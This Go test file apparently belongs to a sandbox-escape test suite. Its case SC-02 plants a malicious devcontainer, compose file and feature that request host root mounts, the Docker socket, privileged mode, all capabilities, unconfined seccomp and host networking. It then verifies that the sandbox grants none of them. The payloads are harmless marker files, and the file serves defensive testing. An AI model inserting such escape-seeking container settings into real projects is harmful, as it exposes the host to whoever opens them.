package corpus

import (
	"strings"

	"cloister/escape"
)

// powers is a devcontainer that asks for all there is, with a compose file and an
// image of its own.
func powers() map[string]string {
	return map[string]string{
		".devcontainer/devcontainer.json": `{"name":"x","dockerComposeFile":"docker-compose.yml","service":"x","image":"evil.test/image:latest","build":{"dockerfile":"Dockerfile","options":["--network=host"]},
"mounts":["source=/,target=/hostroot,type=bind","source=/var/run/docker.sock,target=/var/run/docker.sock,type=bind"],"runArgs":["--privileged","--network=host","--pid=host","--cap-add=ALL","--security-opt","seccomp=unconfined","--device=/dev/kvm"],
"privileged":true,"capAdd":["SYS_ADMIN"],"securityOpt":["apparmor=unconfined"],"workspaceMount":"source=/,target=/workspace,type=bind","workspaceFolder":"/workspace","containerEnv":{"SC02":"taken"},"remoteEnv":{"SC02":"taken"},"remoteUser":"root","forwardPorts":[22],
"features":{"ghcr.io/nobody/evil:1":{},"https://evil.test/feature.tgz":{},"./local":{}},"postCreateCommand":"touch sc02-ran"}`,
		".devcontainer/docker-compose.yml":              "services:\n  x:\n    image: evil.test/image\n    privileged: true\n    network_mode: host\n    pid: host\n    volumes: [\"/:/hostroot\", \"/var/run/docker.sock:/var/run/docker.sock\"]\n",
		".devcontainer/Dockerfile":                      "FROM evil.test/image\nRUN touch /sc02-ran\n",
		".devcontainer/local/devcontainer-feature.json": `{"id":"local","version":"1","privileged":true,"capAdd":["ALL"],"entrypoint":"/bin/true","mounts":["source=/,target=/hostroot,type=bind"]}`,
		".devcontainer/local/install.sh":                "#!/bin/sh\ntouch sc02-ran\n",
		"docker-compose.yml":                            "services:\n  x:\n    privileged: true\n    volumes: [\"/:/hostroot\"]\n",
		".devcontainer/devcontainer-lock.json":          `{"features":{"ghcr.io/nobody/evil:1":{"version":"1.0.0","resolved":"ghcr.io/nobody/evil@sha256:0000000000000000000000000000000000000000000000000000000000000000","integrity":"sha256:1111111111111111111111111111111111111111111111111111111111111111"}}}`,
	}
}

// reach says what a cloister has of what a devcontainer may ask for. A container that
// root starts has another user ID each time, of those from 1,900,000,000 on.
const reach = `grep -h '^Cap\|^NoNewPrivs\|^Seccomp:' /proc/self/status; ls -d /hostroot /workspace /var/run/docker.sock /run/docker.sock /dev/kvm 2>/dev/null; echo "env=$SC02"; id -u | sed 's/^190[0-9]\{7\}$/an ID of its own/'; while read -r a b c d path rest; do echo "$path"; done </proc/self/mountinfo | sort; ls -d sc02-ran /sc02-ran 2>/dev/null; true`

func sc02() escape.Case {
	return escape.Case{
		ID: "SC-02", Class: "powers of a devcontainer", Attack: "a repository whose devcontainer, compose file and feature ask for the host's root, the engine's socket, capabilities, no seccomp, the host's network and variables: a cloister of it has exactly what one has without them",
		Source: "vscode-remote-release #11428", Layers: []string{"launcher"},
		Host: hosted("  auto_approve:\n    - pattern: \"^pwd$\"\n", func(r *ruled) []escape.Finding {
			look := func() (string, escape.Result) {
				res := r.run("sh", "-c", reach)
				var kept []string
				for line := range strings.Lines(res.Stdout) {
					// What is protected is another where it is there.
					if !strings.Contains(line, "/.devcontainer") {
						kept = append(kept, line)
					}
				}
				return strings.Join(kept, ""), res
			}
			before, plain := look()
			for name, text := range powers() {
				if err := r.w.Write(r.project+"/"+name, text); err != nil {
					return escape.NoHost("write "+name, err)
				}
			}
			after, res := look()
			out := []escape.Finding{
				found("it starts", plain.Status == 0 && res.Status == 0, "status %d and %d: %s%s", plain.Status, res.Status, plain.Stderr, res.Stderr),
				found("it has what one without has", before == after, "before:\n%s\nafter:\n%s", before, after),
				found("nothing of it was done", len(unwanted(after, "hostroot", "/workspace", "docker.sock", "taken", "sc02-ran")) == 0 && !r.has("sc02-ran"), "%s", after),
				found("no capability, no new privileges, a filter", strings.Contains(after, "CapEff:\t0000000000000000") && strings.Contains(after, "NoNewPrivs:\t1") && strings.Contains(after, "Seccomp:\t2"), "%s", after),
			}
			if r.w.Kind.Isolation == "docker" {
				return out // what the engine was told is BK-01's
			}
			shown := r.cloister("run", "-C", r.project, "--expose", r.w.Outside, "-e", "SC02=taken", "--", "sh", "-c", reach)
			return append(out, found("control: what a person shows and names is seen by this look",
				// gVisor's list of mounts has none of what is shown: there the names that ls looks for are the look.
				(strings.Contains(shown.Stdout, r.w.Outside) || r.w.Level == escape.GVisor) && strings.Contains(shown.Stdout, "env=taken"), "%s%s", shown.Stdout, shown.Stderr))
		}),
	}
}
